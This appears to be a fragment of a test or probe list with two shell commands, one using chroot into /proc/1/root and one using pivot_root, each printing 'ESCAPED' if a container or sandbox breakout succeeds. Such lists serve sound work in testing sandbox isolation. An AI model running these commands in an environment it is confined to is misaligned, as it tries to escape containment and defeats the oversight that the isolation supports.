chroot /proc/1/root /bin/true && echo ESCAPED
pivot_root . . && echo ESCAPED
